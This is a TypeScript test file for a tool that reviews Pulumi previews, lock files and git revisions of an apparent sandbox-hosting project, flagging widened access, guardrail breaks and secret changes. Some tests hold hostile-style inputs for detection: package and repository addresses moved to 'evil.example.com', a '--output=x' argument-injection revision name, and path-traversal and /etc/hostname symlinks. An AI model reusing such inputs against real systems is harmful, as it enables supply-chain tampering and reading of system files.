    const runtime = (ca: string) => ({ kind: "embedded", mirrors: { ca } });
    const planned = { type: "nemoclaw:host:SandboxRuntime", name: "host-runtime" };
    const report = reviewed({ ...planned, before: runtime(a), after: runtime(a + b) });
    expect(report.trust).toMatchObject([{ effect: "widens", after: nameB }]);
    expect(verdictOf(report).exitCode).toBe(3);
    expect(combine(report, compared(named("/etc/a.pem"), named("/etc/a.pem"))).trust).toEqual(report.trust);
  });
});

test("who may open tunnels to a machine is told by a preview, too", () => {
  const type = "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember";
  const report = reviewed({ type, name: "machine-tunnel", after: { member: "group:b@example.com", role: "r" } });
  expect(report.exposure).toEqual([{ what: "may open IAP tunnels", after: "group:b@example.com", effect: "widens" }]);
});

test("a runtime that does not tell programs apart opens to all of them what one could reach, by preview, too", () => {
  const git = { a: { endpoints: [{ host: api, port: 443 }], binaries: [{ path: "/usr/bin/git" }] } };
  const planned = network(git, git);
  const report = reviewed({ ...planned, before: { ...planned.before, runtime: "openshell" } });
  expect(report.access).toMatchObject([{ effect: "widens", where: `${api}:443` }]);
  expect(report.access[0]?.programs).toBeUndefined();
});

describe("guardrails", () => {
  const volume = (more: object): Planned => ({
    type: "aws:ebs/volume:Volume",
    name: "data",
    before: { encrypted: true, size: 5, ...more },
    after: { encrypted: true, size: 5, ...more },
  });
  const results = (...planned: Planned[]) => {
    const report = reviewed(...planned);
    const { broken = [], taken = [], kept = [] } = report.guardrails ?? {};
    const said = [
      ...broken.map(({ name }) => `broken ${name}`),
      ...taken.map(({ name, reason }) => `${name}: ${reason}`),
    ];
    return { code: verdictOf(report).exitCode, headline: verdictOf(report).headline, said, kept: kept.length };
  };

  test("that an update breaks count as widening", () => {
    const planned = volume({});
    const found = results({ ...planned, after: { ...planned.after, size: 6 } });
    expect(found).toMatchObject({
      code: 3,
      headline: "Widens access; breaks a guardrail",
      said: ["broken protected-data"],
    });
  });

  test("that were broken before are said, and are no change", () => {
    expect(results(volume({}))).toMatchObject({ code: 0, headline: "Nothing changes; breaks a guardrail" });
  });

  test("whose risk is taken are told with the reason", () => {
    const lab = { tags: { "accepted-risk": "accepted risk: a lab" } };
    expect(results(volume(lab))).toEqual({
      code: 0,
      headline: "Nothing changes",
      said: ["protected-data: a lab"],
      kept: 9,
    });
  });

  test("of what goes away do not count", () => {
    const { after: _, ...gone } = volume({});
    expect(results(gone).said).toEqual([]);
  });

  test("take no secret for another, and pass over what is not known yet", () => {
    const one = bridge({}, { chats: [1, 2] });
    const unknown = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";
    const door = { ...behindAccess, kind: unknown, access: unknown };
    const made = { type: "nemoclaw:host:CloudflareTunnel", name: "tunnel", after: door };
    expect(results(one, { ...one, name: "second" }, made).said).toEqual([]);
  });

  test("that a failed preview breaks are named, which the CLI does not do", () => {
    const { before: _, ...made } = volume({});
    const failed = previewJson([made], { diagnostics: [{ message: "error: preview failed", severity: "error" }] });
    expect(() => readPreview(failed, "a preview")).toThrow(
      /preview failed\nguardrails[\s\S]*data protect[\s\S]*protected-data: A data disk/,
    );
  });
});

describe("an upgrade, by preview", () => {
  test("of the agent is told by its version", () => {
    const report = reviewed(sandbox({ agent: { version: "2026.9.6" } }, { agent: { version: "2026.9.7" } }));
    expect(report.versions).toEqual([{ what: "agent", before: "2026.9.6", after: "2026.9.7" }]);
  });

  test.each([
    ["bridge", "Telegram bridge", bridge({ definition: "sha256:a" }, { definition: "sha256:b" })],
    ["tunnel", "tunnel", tunnel({ definition: "sha256:a" }, { definition: "sha256:b" })],
  ])("of the %s is told by its service's definition", (_, what, planned) => {
    const report = reviewed(planned);
    expect(report.versions).toEqual([
      { what, note: "its service is set up anew: its program or its settings have changed" },
    ]);
    expect(verdictOf(report).exitCode).toBe(2);
  });
});

describe("a sandbox that is updated, by preview", () => {
  const other = {
    attendant: { definition: `${"a2".repeat(6)} ${recipe}` },
    recipe: { definition: `${attendant} ${"b2".repeat(6)}` },
  };
  const still = openshell({}, {});
  const unseen = { definition: `${attendant} unknown` };
  const ended = { definition: `${attendant} ended` };
  const lastUpdate = (definition: object, look: Planned): Planned => ({
    ...look,
    seen: { leftByUpdate: { values: definition } },
  });
  const lost = "the agent restarts; what its sandbox holds besides the workspace and the agent's state goes";
  const bySelf = { definition: `${attendant} ${recipe}` };

  test.each<[string, Planned, string | undefined, 2 | 4]>([
    ["another recipe under OpenShell: it is made anew", openshell({}, other.recipe), lost, 4],
    [
      "another agent, which is part of the recipe",
      openshell({}, { ...other.recipe, agent: { version: "2026.9.7" } }),
      lost,
      4,
    ],
    ["another service of the attendant: the sandbox stays", openshell({}, other.attendant), undefined, 2],
    ["other limits, which apply to a running one", openshell({}, { limits: { pids: 600 } }), undefined, 2],
    ["one that does not run", { ...still, before: { ...still.before, running: false } }, undefined, 2],
    ["one that has ended, which OpenShell does not start again", openshell({ ...ended, running: false }, {}), lost, 4],
    ["a gateway that did not answer", openshell(unseen, {}), undefined, 2],
    [
      "a gateway that did not answer, as the last update left it",
      lastUpdate(bySelf, openshell(unseen, {})),
      undefined,
      2,
    ],
    [
      "a gateway that did not answer, and another recipe than the last update left",
      lastUpdate(bySelf, openshell(unseen, other.recipe)),
      lost,
      4,
    ],
    [
      "another recipe's look alike under the embedded runtime",
      openshell({ runtime: "embedded" }, { ...other.recipe, runtime: "embedded" }),
      undefined,
      2,
    ],
  ])("%s", (_, planned, goes, exitCode) => {
    const report = reviewed(planned);
    expect(report.resources).toMatchObject([{ operation: "update", madeAnew: goes !== undefined }]);
    expect(report.resources[0]?.lost).toBe(goes);
    expect(verdictOf(report).exitCode).toBe(exitCode);
  });
});

test("an upgrade of the runtime's programs is told by their versions", () => {
  const versions = (supervisor: string) => ({ versions: { node: "24.21.0", supervisor } });
  const planned = { type: "nemoclaw:host:SandboxRuntime", name: "host-runtime" };
  const report = reviewed({ ...planned, before: versions("aaaa"), after: versions("bbbb") });
  expect(report.versions).toEqual([{ what: "supervisor", before: "aaaa", after: "bbbb" }]);
});

describe("the price of a machine size", () => {
  const noted = (before: string, after: string) => {
    const preview = readPreview(
      previewJson([server({ instanceType: after })]).replaceAll("g6.xlarge", before),
      "a preview",
    );
    const { versions } = reportOfPreview({ stack: "prod", preview, compared: "", priceOf });
    return versions.find(({ what }) => what === "machine size")?.note;
  };

  test.each([
    ["g6.xlarge", "g6.12xlarge", "up to $1 an hour, then up to $5 an hour"],
    ["g6.xlarge", "g6.2xlarge", "up to $1 an hour, as before"],
    ["g6.xlarge", "x9.huge", "up to $1 an hour, then one not known here"],
    ["x9.large", "x9.huge", "another price"],
    ["g2-standard-32", "n1-standard-16", "up to $5 an hour, then up to $1 an hour without attached GPUs"],
  ])("of %s and then %s is told by its class", (before, after, note) => expect(noted(before, after)).toBe(note));

  test("is told of what two revisions configure, too", () => {
    const at = (size: string) => onMachine(`kind: gcp, machineType: ${size}`);
    const [from, to] = [revision("main", at("g2-standard-8")), revision("change", at("a2-highgpu-8g"))];
    const { settings } = reportOfRevisions("prod", from, to, priceOf);
    expect(settings).toMatchObject([
      { what: "machine.machineType", note: expect.stringMatching(/^up to .* an hour, then .* an hour$/) },
    ]);
  });
});

describe("the lock file's own diff", () => {
  const address = "{artifacts}/a/tool/releases/download/v1.0/tool.tar.gz";
  const pinned = (change: (file: { url: string; sha256: string }) => object) => {
    const whole = JSON.parse(lock("1.0", "a".repeat(64)));
    const file = { url: address, sha256: "a".repeat(64) };
    whole.artifacts.cloudflared = { version: "1.0", files: { "linux-amd64": file }, ...change(file) };
    return { "nemoclaw.lock.json": JSON.stringify(whole) };
  };
  const archived = (sha256: string) => {
    const whole = JSON.parse(lock("1.0", "a".repeat(64)));
    const archives = { "linux-amd64": { url: address, sha256 } };
    whole.images["ghcr.io/x/image:1.0"] = { digest: null, archives };
    return { "nemoclaw.lock.json": JSON.stringify(whole) };
  };
  const facts = (before: Record<string, string>, after: Record<string, string>) =>
    compared(before, after).versions.map(({ what, effect }) => `${effect ?? "plain"}: ${what}`);

  test("is quiet about an address that moves with its version", () => {
    const next = pinned((file) => {
      file.url = address.replace("1.0", "1.1");
      return { version: "1.1" };
    });
    expect(
      facts(
        pinned(() => ({})),
        next,
      ),
    ).toEqual(["plain: cloudflared"]);
  });

  test("tells another place under the same checksum, and another list of checksums", () => {
    const moved = pinned((file) => {
      file.url = address.replace("/a/tool/", "/b/tool/");
      return {};
    });
    expect(
      facts(
        pinned(() => ({})),
        moved,
      ),
    ).toEqual(["unclear: cloudflared, linux-amd64, address"]);
    const list = (owner: string) => pinned(() => ({ checksums: `{artifacts}/${owner}/tool/v1.0/sums.txt` }));
    expect(facts(list("a"), list("b"))).toEqual(["unclear: cloudflared, its publisher's checksums"]);
  });

  test("tells another address of signed packages", () => {
    const signed = (uri: string) => {
      const whole = JSON.parse(lock("1.0", "a".repeat(64)));
      whole.apt.docker = { uri, fingerprint: "A".repeat(40) };
      return { "nemoclaw.lock.json": JSON.stringify(whole) };
    };
    const [before, after] = ["https://download.docker.com/linux", "https://evil.example.com"];
    expect(compared(signed(before), signed(after))).toMatchObject({
      versions: [{ what: "apt repository docker, address", before, after, effect: "unclear" }],
    });
  });

  describe("an npm package without a checksum", () => {
    const [here, there] = ["https://registry.npmjs.org/a.tgz", "https://evil.example.com/a.tgz"];
    const sum = `sha512-${"a".repeat(20)}`;
    const packages = (entry: object) => ({
      "services/agent/package-lock.json": JSON.stringify({ packages: { "node_modules/a": entry } }),
    });
    test.each<[string, object, object, string[]]>([
      ["that is new", {}, { version: "1.0.0", resolved: here }, ["unclear: npm node_modules/a of the agent"]],
      [
        "that had one",
        { version: "1.0.0", integrity: sum },
        { version: "1.0.0", resolved: here },
        ["unclear: npm node_modules/a of the agent"],
      ],
      [
        "from elsewhere",
        { version: "1.0.0", resolved: here },
        { version: "1.0.0", resolved: there },
        ["unclear: npm node_modules/a of the agent"],
      ],
      ["as before", { version: "1.0.0", resolved: here }, { version: "1.0.0", resolved: here }, []],
      [
        "from elsewhere, with the checksum that it had",
        { version: "1.0.0", resolved: here, integrity: sum },
        { version: "1.0.0", resolved: there, integrity: sum },
        ["unclear: npm node_modules/a of the agent, address"],
      ],
    ])("%s", (_, before, after, expected) => expect(facts(packages(before), packages(after))).toEqual(expected));
  });

  test("tells an image's archive that is another one", () => {
    expect(facts(archived("a".repeat(64)), archived("b".repeat(64)))).toEqual([
      "unclear: ghcr.io/x/image:1.0, linux-amd64",
    ]);
  });
});

describe("a preview that names what changes", () => {
  const planned = route({ model: "m1" }, { model: "m2" });
  const detail = (...paths: string[]) =>
    Object.fromEntries(paths.map((path) => [path, { kind: "update", inputDiff: true }]));
  const named = (update: object, look: object = {}) => {
    const digest = JSON.parse(previewJson([planned]));
    for (const step of digest.steps) {
      if (step.op === "update") Object.assign(step, update);
      if (step.op === "refresh") Object.assign(step, look);
    }
    return digest;
  };
  const secretsOf = (digest: object) =>
    reportOfPreview({ stack: "prod", preview: readPreview(JSON.stringify(digest), "a preview"), compared: "" }).secrets;

  test.each<[string, object, object[]]>([
    [
      "a rotated secret beside a visible change",
      { detailedDiff: detail("model", "key") },
      [{ name: "key of main-inference", kind: "changed" }],
    ],
    ["by its property alone", { diffReasons: ["model", "key"] }, [{ name: "key of main-inference", kind: "changed" }]],
    ["no secret", { diffReasons: ["model"], detailedDiff: detail("model") }, []],
    ["a machine that has moved, whose key has not changed", { diffReasons: ["machine"] }, []],
    [
      "the key to the machine",
      { diffReasons: ["machine"], detailedDiff: detail("machine.privateKey") },
      [{ name: "machine.privateKey", kind: "changed", note: "in the connection of one resource" }],
    ],
  ])("tells %s", (_, update, secrets) => expect(secretsOf(named(update))).toEqual(secrets));

  test("a secret that the machine has another one of is told as such", () => {
    const both = detail("key");
    const digest = named({ detailedDiff: both }, { op: "update", detailedDiff: both });
    // A refresh of what did not change still says that somebody looked.
    digest.steps.unshift({ op: "refresh", urn: "urn:pulumi:prod::nemoclaw::nemoclaw:host:Workspace::w" });
    digest.changeSummary.update = 2;
    expect(secretsOf(digest)).toEqual([
      {
        name: "key of main-inference",
        kind: "changed",
        note: "the machine holds another one than the last update left there",
      },
    ]);
  });

  test("what the CLI says of a plugin's end does not fail a preview that is whole", () => {
    const message =
      "error: Detected that ./provider/pulumi-resource-nemoclaw exited prematurely. \n  This is *always* a bug …";
    const ended = previewJson([planned], { diagnostics: [{ message, severity: "error" }] });
    expect(readPreview(ended, "a preview").counts.update).toBe(1);
    const failed = previewJson([planned], { diagnostics: [{ message: "connection refused", severity: "error" }] });
    expect(() => readPreview(failed, "a preview")).toThrow("connection refused");
  });

  test("a resource is called by its whole name, which may have an IPv6 range in it", () => {
    const type = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule";
    const preview = readPreview(previewJson([{ type, name: "machine-ssh-2001:db8::/48", after: {} }]), "a preview");
    const { resources } = reportOfPreview({ stack: "prod", preview, compared: "" });
    expect(resources.map(({ name }) => name)).toEqual(["machine-ssh-2001:db8::/48"]);
  });

  test("what a look found gone is drift, not a replacement", () => {
    const digest = JSON.parse(previewJson([planned]));
    const state = { type: planned.type, inputs: planned.before };
    for (const step of digest.steps) {
      if (step.op === "refresh") Object.assign(step, { op: "delete", newState: undefined });
      else if (step.op === "update") Object.assign(step, { op: "create", oldState: undefined });
    }
    digest.steps.unshift({
      op: "refresh",
      urn: "urn:pulumi:prod::nemoclaw::nemoclaw:host:Workspace::w",
      oldState: state,
    });
    digest.changeSummary = { create: 1, delete: 1 };
    const report = reportOfPreview({ stack: "prod", preview: readPreview(JSON.stringify(digest), "a"), compared: "" });
    expect(report.resources.map(({ operation }) => operation)).toEqual(["create"]);
    expect(report.drift).toMatchObject([{ name: "main-inference", gone: true }]);
  });
});

describe("a preview that is none", () => {
  test.each<[string, string, RegExp]>([
    ["empty", "", /is empty/],
    ["cut off", previewJson([route({ model: "a" }, { model: "b" })]).slice(0, -30), /is not JSON/],
    ["something else", '{"version":3,"deployment":{}}', /no summary of changes/],
    ["a list", "[]", /not the JSON of a preview/],
    [
      "failed",
      previewJson([], { diagnostics: [{ severity: "error", message: "\u001b[31mno such machine\u001b[0m" }] }),
      /failed.*\n.*no such machine/,
    ],
    ["ended half-way", JSON.stringify({ steps: [] }), /did not come to its end/],
    ["with nothing in it", '{"changeSummary":{}}', /not even the stack itself/],
    ["with no step and nothing counted", '{"steps":[],"changeSummary":{}}', /not even the stack itself/],
    ["with no step", '{"steps":[],"changeSummary":{"same":3}}', /not even the stack itself/],
    [
      "with nothing counted",
      previewJson([route({ model: "a" }, { model: "b" })], { changeSummary: { update: 0 } }),
      /not even the stack itself/,
    ],
    [
      "with an operation that is only counted, and not known",
      previewJson([], { changeSummary: { same: 1, import: 1 } }),
      /the operation import, of which a review cannot say/,
    ],
    [
      "with a step that is not known",
      previewJson([route({ model: "a" }, { model: "b" })]).replace('"op":"update"', '"op":"import"'),
      /the operation import, of which a review cannot say/,
    ],
    [
      "with steps missing",
      JSON.stringify({ steps: [], changeSummary: { update: 2 } }),
      /counts 2 to update and lists 0/,
    ],
    [
      "deeper than any",
      previewJson([], { config: { a: "DEEP" } }).replace('"DEEP"', `${"[".repeat(50_000)}${"]".repeat(50_000)}`),
      /preview.json has values inside values, more than the 200 deep/,
    ],
    ["huge", `{"steps":[${" ".repeat(65 * 1024 * 1024)}]}`, /more than the 64/],
  ])("%s is an error", (_, text, message) => {
    expect(() => readPreview(text, "preview.json")).toThrow(message);
  });

  const lacking = (change: (step: Record<string, Record<string, unknown> | undefined>) => void, ops = ["update"]) => {
    const digest = JSON.parse(previewJson([network({}, { a: block(api, { access: "full" }) })]));
    for (const step of digest.steps) if (ops.includes(step.op) && step.urn.includes("NetworkPolicy")) change(step);
    return JSON.stringify(digest);
  };
  test.each<[string, string, RegExp]>([
    [
      "what is wanted",
      lacking((step) => delete step.newState),
      /preview.json has update main-network without its newState: part of it is missing/,
    ],
    ["what was found", lacking((step) => delete step.oldState), /update main-network without its oldState/],
    [
      "the inputs that are wanted",
      lacking((step) => delete step.newState?.inputs),
      /update main-network without the inputs of its newState/,
    ],
    [
      "the inputs that were found",
      lacking((step) => delete step.oldState?.inputs),
      /update main-network without the inputs of its oldState/,
    ],
    [
      "its type, and the inputs",
      lacking((step) => Object.assign(step.newState ?? {}, { type: "", inputs: undefined })),
      /update main-network without the inputs of its newState/,
    ],
    [
      "what is created",
      previewJson([{ ...network({}, {}), before: undefined }]).replace(/"newState"(?!.*"newState")/, '"other"'),
      /create main-network without its newState/,
    ],
    [
      "what is deleted",
      previewJson([{ ...network({}, {}), after: undefined }]).replace(/"oldState"(?!.*"oldState")/, '"other"'),
      /delete main-network without its oldState/,
    ],
  ])("that lacks %s is an error", (_, text, message) => {
    expect(() => readPreview(text, "preview.json")).toThrow(message);
  });

  test("whose network policy has no rules at all, not even none, is not comparable", () => {
    const text = lacking((step) => Object.assign(step.newState?.inputs ?? {}, { networkPolicies: undefined }));
    const report = reportOfPreview({ stack: "prod", preview: readPreview(text, "it"), compared: "" });
    expect(report.access).toMatchObject([{ effect: "widens", comparable: false }]);
  });

  test("what takes no inputs, as a component does, is whole without", () => {
    const type = "nemoclaw:index:SandboxHost";
    const digest = JSON.parse(previewJson([{ type, name: "host", before: {}, after: { a: 1 } }]));
    for (const step of digest.steps.filter(({ op }: { op: string }) => op === "update"))
      for (const state of [step.oldState, step.newState]) Object.assign(state, { custom: false, inputs: undefined });
    expect(readPreview(JSON.stringify(digest), "it").counts.update).toBe(1);
  });

  test("scripts/review ends with 1 and prints no report", () => {
    const file = join(folder(), "preview.json");
    writeFileSync(file, "{");
    const run = (...args: string[]) =>
      spawnSync(process.execPath, ["scripts/review.ts", ...args], { cwd: project, encoding: "utf8" });
    const broken = run("-s", "prod", "--preview", file);
    expect([broken.status, broken.stdout]).toEqual([1, ""]);
    expect(broken.stderr).toMatch(/is not JSON/);
    const absent = run("-s", "prod", "--preview", `${file}.none`);
    expect([absent.status, absent.stdout]).toEqual([1, ""]);
    writeFileSync(file, previewJson([network({}, presetBlocks("npm"))]));
    const good = run("-s", "prod", "--preview", file, "--json");
    expect(good.status).toBe(3);
    expect(JSON.parse(good.stdout)).toMatchObject({ exitCode: 3, stack: "prod" });
    expect(JSON.parse(good.stdout).compared).toBe(`the preview in ${file}; no revisions`);
    expect(run("-s", "prod", "--to", "x").status).toBe(64);
    expect(run("-s", "prod", "--state", file).status).toBe(64);
  });

  test("a stack that was left half-way is an error, and so is a state that is none", () => {
    const [file, state] = [join(folder(), "preview.json"), join(folder(), "state.json")];
    writeFileSync(file, previewJson([]));
    const run = (pending: string) => {
      writeFileSync(state, pending);
      const args = ["scripts/review.ts", "-s", "prod", "--preview", file, "--state", state];
      return spawnSync(process.execPath, args, { cwd: project, encoding: "utf8" });
    };
    const operation = (type: string) => ({
      type,
      resource: { urn: "urn:pulumi:prod::nemoclaw::aws:ebs/volume:Volume::data", type: "aws:ebs/volume:Volume" },
    });
    const left = (...types: string[]) =>
      run(JSON.stringify({ version: 3, deployment: { pending_operations: types.map(operation) } }));
    const creating = left("updating", "creating");
    expect([creating.status, creating.stdout]).toEqual([1, ""]);
    expect(creating.stderr).toMatch(
      /stack prod is half-way.*\n {2}disk data\n {2}try {3}wait for an update that is running; if there is none, look whether/,
    );
    expect(left("updating", "deleting").status).toBe(0);
    expect(left().status).toBe(0);
    expect([run("{").status, run("[]").status]).toEqual([1, 1]);
  });

  test.each([
    ["{", "the whole"],
    ["{}", "version"],
    ['{"version":3}', "deployment"],
    ['{"deployment":{}}', "version"],
    ['{"version":3,"deployment":{"pending_operations":{}}}', "deployment.pending_operations"],
    ['{"version":3,"deployment":{"resources":"x"}}', "deployment.resources"],
    ['{"version":3,"deployment":{"resources":[{"type":"t"}]}}', "deployment.resources.0.urn"],
    ['{"version":3,"deployment":{"resources":[{"urn":"x","type":"t"}]}}', "deployment.resources.0.urn"],
  ])("%s is no exported state, and is told where it is none", (none, place) => {
    expect(() => refuseLeftHalfWay(none, "prod")).toThrow(
      `state of stack prod is not what pulumi stack export prints: ${place}: `,
    );
  });

  test("a preview or a state of another stack is an error", () => {
    const [file, state] = [join(folder(), "preview.json"), join(folder(), "state.json")];
    const run = (stack: string, text: string, exported?: string) => {
      writeFileSync(file, text);
      if (exported !== undefined) writeFileSync(state, exported);
      const more = exported === undefined ? [] : ["--state", state];
      const args = ["scripts/review.ts", "-s", stack, "--preview", file, ...more];
      const { status, stdout, stderr } = spawnSync(process.execPath, args, { cwd: project, encoding: "utf8" });
      return { status, stdout, stderr };
    };
    const of = (stack: string, ofProject = "nemoclaw") =>
      previewJson([]).replaceAll("urn:pulumi:prod::nemoclaw::", `urn:pulumi:${stack}::${ofProject}::`);
    for (const stack of ["prod", "acme/prod", "acme/nemoclaw/prod"])
      expect(run(stack, of("prod"))).toMatchObject({ status: 0, stderr: "" });
    const refused = (stack: string, text: string, message: RegExp, exported?: string) =>
      expect(run(stack, text, exported)).toEqual({ status: 1, stdout: "", stderr: expect.stringMatching(message) });
    const other =
      /preview.json is a preview of stack staging of project nemoclaw, and .* of stack prod of project nemoclaw/;
    refused("prod", of("staging"), other);
    refused("acme/nemoclaw/prod", of("staging"), other);
    refused("prod", of("prod", "shop"), /a preview of stack prod of project shop/);
    const exported = (urn: string) => JSON.stringify({ version: 3, deployment: { resources: [{ urn, type: "t" }] } });
    const theirs = exported("urn:pulumi:staging::nemoclaw::pulumi:pulumi:Stack::nemoclaw-staging");
    refused("prod", of("prod"), /state.json is the state of stack staging of project nemoclaw/, theirs);
    expect(run("prod", of("prod"), exported("urn:pulumi:prod::nemoclaw::t::a")).status).toBe(0);
    expect(run("prod", of("prod"), JSON.stringify({ version: 3, deployment: null })).status).toBe(0);
  }, 60_000);

  test("--out writes the comment and the page, and prints neither", () => {
    const [file, out] = [join(folder(), "preview.json"), join(folder(), "reviewed")];
    writeFileSync(file, previewJson([network({}, presetBlocks("npm"))]));
    const args = ["scripts/review.ts", "-s", "prod", "--preview", file, "--out", out];
    const written = spawnSync(process.execPath, args, { cwd: project, encoding: "utf8" });
    expect([written.status, written.stdout]).toEqual([3, ""]);
    expect(readFileSync(join(out, "review.md"), "utf8")).toMatch(/^<!-- nemoclaw-review[\s\S]*Widens access/);
    expect(readFileSync(join(out, "review.html"), "utf8")).toMatch(/^<!doctype html>[\s\S]*Widens access/);
  });
});

describe("revisions", () => {
  test("are read from git, and one that is not there is an error", () => {
    const repository = folder();
    const git = (...args: string[]) =>
      execFileSync("git", ["-C", repository, "-c", "user.name=t", "-c", "user.email=t@example.com", ...args]);
    git("init", "-q", "-b", "main");
    mkdirSync(join(repository, "stacks"));
    mkdirSync(join(repository, "policies"));
    writeFileSync(join(repository, "policies/baseline.yaml"), readFileSync(join(project, "policies/baseline.yaml")));
    writeFileSync(join(repository, "stacks/Pulumi.prod.yaml"), stackFile());
    git("add", ".");
    git("commit", "-qm", "one");
    writeFileSync(join(repository, "stacks/Pulumi.prod.yaml"), stackFile().replace("m1", "m2"));
    git("commit", "-qam", "two");
    const [first, second] = ["main~1", "main"].map((name) => openRevision(repository, name));
    if (!first || !second) throw new Error("both revisions are there");
    expect(reportOfRevisions("prod", first, second).model).toEqual([{ what: "model", before: "m1", after: "m2" }]);
    expect(() => reportOfRevisions("other", first, second)).toThrow(
      /neither main~1 nor main has stacks\/Pulumi.other.yaml/,
    );
    writeFileSync(join(repository, "Pulumi.yaml"), "stackConfigDir: stacks\n");
    git("add", ".");
    git("commit", "-qm", "three");
    const third = openRevision(repository, "main");
    expect([...third.files().keys()]).toEqual(["Pulumi.yaml", "policies/baseline.yaml", "stacks/Pulumi.prod.yaml"]);
    expect(reportOfRevisions("prod", second, third)).toMatchObject({ model: [], unread: ["Pulumi.yaml"] });
    expect(() => openRevision(repository, "gone")).toThrow(/no revision gone/);
    expect(() => openRevision(repository, "--output=x")).toThrow(/not a revision/);
    expect(() => openRevision(tmpdir(), "main")).toThrow(/not a git repository/);
    for (const away of ["../x", "policies/../../x", "/x"]) expect(() => second.read(away)).toThrow(/outside/);
    expect(second.read("./policies/../stacks/Pulumi.prod.yaml")).toContain("m2");
  });

  test("are read through symbolic links, whose files count as read; none leads out of the project", () => {
    const repository = folder();
    const git = (...args: string[]) =>
      execFileSync("git", ["-C", repository, "-c", "user.name=t", "-c", "user.email=t@example.com", ...args]);
    git("init", "-q", "-b", "main");
    for (const made of ["stacks", "policies", "shared/team"]) mkdirSync(join(repository, made), { recursive: true });
    writeFileSync(join(repository, "policies/baseline.yaml"), readFileSync(join(project, "policies/baseline.yaml")));
    writeFileSync(
      join(repository, "stacks/Pulumi.prod.yaml"),
      `${stackFile()}  nemoclaw:policy: { file: policies/own.yaml }\n`,
    );
    const policy = (host: string) =>
      `version: 1\nnetwork_policies:\n  own: { endpoints: [{ host: ${host}, port: 443 }], binaries: [{ path: "/**" }] }\n`;
    writeFileSync(join(repository, "shared/team/own.yaml"), policy("one.example.com"));
    symlinkSync("../shared/team", join(repository, "policies/team"));
    symlinkSync("team/own.yaml", join(repository, "policies/own.yaml"));
    git("add", ".");
    git("commit", "-qm", "one");
    writeFileSync(join(repository, "shared/team/own.yaml"), policy("two.example.com"));
    git("commit", "-qam", "two");
    const [first, second] = ["main~1", "main"].map((name) => openRevision(repository, name));
    if (!first || !second) throw new Error("both revisions are there");
    expect(second.way("policies/own.yaml")).toEqual(["policies/own.yaml", "policies/team", "shared/team/own.yaml"]);
    const report = reportOfRevisions("prod", first, second);
    expect(report.unread).toEqual([]);
    expect(JSON.stringify(report.access)).toContain("two.example.com");

    symlinkSync("/etc/hostname", join(repository, "policies/away.yaml"));
    symlinkSync("../../up.yaml", join(repository, "policies/up.yaml"));
    symlinkSync("circle.yaml", join(repository, "policies/circle.yaml"));
    git("add", ".");
    git("commit", "-qm", "three");
    const third = openRevision(repository, "main");
    expect(() => third.read("policies/away.yaml")).toThrow(
      "/etc/hostname is outside the project, where policies/away.yaml leads",
    );
    expect(() => third.read("policies/up.yaml")).toThrow("../up.yaml is outside the project");
    expect(() => third.read("policies/circle.yaml")).toThrow("policies/circle.yaml leads in a circle");
  });

  test("no file is left out as text or a test where a link leads to it", () => {
    const repository = folder();
    const git = (...args: string[]) =>
      execFileSync("git", ["-C", repository, "-c", "user.name=t", "-c", "user.email=t@example.com", ...args]);
    git("init", "-q", "-b", "main");
    for (const made of ["stacks", "policies", "host", "docs/x", "test"])
      mkdirSync(join(repository, made), { recursive: true });
    writeFileSync(join(repository, "policies/baseline.yaml"), readFileSync(join(project, "policies/baseline.yaml")));
    writeFileSync(join(repository, "stacks/Pulumi.prod.yaml"), stackFile());
    const written = ["docs/x/a.ts", "docs/b.ts", "test/c.ts", "docs/plain.md"];
    const write = (text: string) => {
      for (const path of written) writeFileSync(join(repository, path), text);
    };
    write("one");
    symlinkSync("../docs/x/a.ts", join(repository, "host/a.ts"));
    symlinkSync("../docs", join(repository, "host/all"));
    git("add", ".");
    git("commit", "-qm", "one");
    git("rm", "-q", "host/all");
    symlinkSync("../../test/c.ts", join(repository, "docs/x/c.ts"));
    symlinkSync("/etc/hostname", join(repository, "docs/away"));
    git("add", ".");
    git("commit", "-qm", "two");
    write("three");
    git("commit", "-qam", "three");
    const unread = (from: string, to: string) =>
      reportOfRevisions("prod", openRevision(repository, from), openRevision(repository, to)).unread;
    expect(unread("main~1", "main")).toEqual(["docs/x/a.ts", "test/c.ts"]);
    // One that led there before, too.
    expect(unread("main~2", "main")).toEqual(expect.arrayContaining(["docs/b.ts", "docs/plain.md"]));
  });

  test.each(["../prod", "acme/../prod", ".", "a/b/c/d", "pr od", ""])(
    "%j is no stack, by option and by environment",
    (name) => {
      const run = (args: string[], env: NodeJS.ProcessEnv = {}) => {
        const all = ["scripts/review.ts", "--from", "HEAD", ...args];
        return spawnSync(process.execPath, all, { cwd: project, encoding: "utf8", env: { ...process.env, ...env } });
      };
      for (const { status, stdout, stderr } of [run(["-s", name]), run([], { PULUMI_STACK: name })]) {
        expect([status, stdout]).toEqual([64, ""]);
        expect(stderr).toContain(`'${name}'`);
        expect(stderr).toContain("ORGANIZATION/PROJECT/STACK");
      }
    },
  );

  test("one that is not there ends scripts/review with 1 and one message", () => {
    const args = ["scripts/review.ts", "-s", "prod", "--from", "gone-by-now"];
    const { status, stdout, stderr } = spawnSync(process.execPath, args, { cwd: project, encoding: "utf8" });
    expect([status, stdout]).toEqual([1, ""]);
    expect(stderr).toMatch(/^there is no revision gone-by-now in \S+\n {2}try {3}git fetch --unshallow[^\n]*\n$/);
  });

  test("a stack file that is gone, or no YAML, or names a policy that is not there", () => {
    expect(verdictOf(compared({}, { "stacks/Pulumi.prod.yaml": undefined as unknown as string })).exitCode).toBe(4);
    expect(() => compared({}, { "stacks/Pulumi.prod.yaml": "config: [" })).toThrow(/not YAML/);
    expect(() =>
      compared({}, { "stacks/Pulumi.prod.yaml": stackFile("  nemoclaw:policy: { presets: [none] }\n") }),
    ).toThrow(/has no policies\/presets\/none.yaml/);
    expect(() => compared({}, { "policies/baseline.yaml": "version: 2\n" })).toThrow(/cannot be taken/);
  });
});
